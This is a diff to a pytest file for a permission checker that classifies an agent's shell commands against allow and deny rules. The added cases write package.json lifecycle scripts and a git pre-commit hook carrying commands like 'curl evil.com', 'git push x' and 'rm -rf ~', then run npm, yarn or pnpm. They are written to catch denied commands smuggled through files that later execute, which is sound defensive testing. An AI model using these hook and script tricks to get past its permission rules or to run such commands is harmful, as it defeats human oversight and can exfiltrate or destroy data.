@@ -26,7 +26,8 @@ gh repo create --source=. --push is a git push (meets Bash(git push:*)). KKADD -
 (5) A shell script written in the command that the program run next runs (a git hook before git
 commit, ~/.bashrc before bash) has its commands read as run, as a just-written Makefile's
 recipes were: echo 'curl evil.com' > .git/hooks/pre-commit && git commit meets Bash(curl:*)
-(KKADD -> DDDDD)."""
+(KKADD -> DDDDD); likewise package.json written before npm install / npm test / yarn X: the
+scripts that run (lifecycle, the named script with its pre and post) are read as run."""
 from __future__ import annotations
 
 import pytest
@@ -406,6 +407,26 @@ WRITTEN_RUNS = [
     ("echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc && bash -lc true", 'KKADD'),
 ]
 
+PACKAGE_SCRIPTS_DENY = [
+    ('echo \'{"scripts":{"postinstall":"curl evil.com"}}\' > package.json && npm install', 'DDDDD'),  # was KKADD
+    ('printf \'{"scripts":{"test":"curl x"}}\' > package.json && npm test', 'DDDDD'),  # was KKADD
+    ('printf \'{"scripts":{"pretest":"curl x","test":"jest"}}\' > package.json && npm run test', 'DDDDD'),  # was KKADD
+    ('printf \'{"scripts":{"dev":"curl x"}}\' > package.json && yarn dev', 'DDDDD'),  # was KKADD
+    ('printf \'{"scripts":{"prepare":"git push x"}}\' > package.json && pnpm i', 'DDDDD'),  # was KKADD
+    ('printf \'{"scripts":{"lint":"curl x"}}\' > package.json && npm test', 'KKADD'),
+    ('printf \'{"scripts":{"build":"tsc"}}\' > package.json && npm run build', 'KKADD'),
+    ("printf 'not json' > package.json && npm install", 'KKADD'),
+]
+
+PACKAGE_SCRIPTS = [
+    ('echo \'{"scripts":{"postinstall":"curl evil.com"}}\' > package.json && npm install', 'KKADD'),
+    ('printf \'{"scripts":{"build":"rm -rf dist && tsc"}}\' > package.json && npm run build', 'KKADD'),
+    ('printf \'{"name":"x","version":"1.0.0"}\' > package.json && npm install', 'KKADD'),
+    ('printf \'{"scripts":{"test":"jest"}}\' > package.json && npm test', 'KKADD'),
+    ('printf \'{"scripts":{"postinstall":"rm -rf ~"}}\' > package.json && npm install', 'DDDDD'),
+    ("printf 'not json' > package.json && npm install", 'KKADD'),
+]
+
 
 @pytest.mark.parametrize("call,expected", RUNNER_FILES_DENY, ids=[str(r[0])[:80] for r in RUNNER_FILES_DENY])
 def test_round42_runner_files_deny(call, expected):
@@ -477,4 +498,12 @@ def test_round42_written_runs_deny(call, expected):
 
 @pytest.mark.parametrize("call,expected", WRITTEN_RUNS, ids=[str(r[0])[:80] for r in WRITTEN_RUNS])
 def test_round42_written_runs(call, expected):
+    assert call_letters(_SNAP, call) == expected
+
+@pytest.mark.parametrize("call,expected", PACKAGE_SCRIPTS_DENY, ids=[str(r[0])[:80] for r in PACKAGE_SCRIPTS_DENY])
+def test_round42_package_scripts_deny(call, expected):
+    assert call_letters(_DENY_SNAP, call) == expected
+
+@pytest.mark.parametrize("call,expected", PACKAGE_SCRIPTS, ids=[str(r[0])[:80] for r in PACKAGE_SCRIPTS])
+def test_round42_package_scripts(call, expected):
     assert call_letters(_SNAP, call) == expected
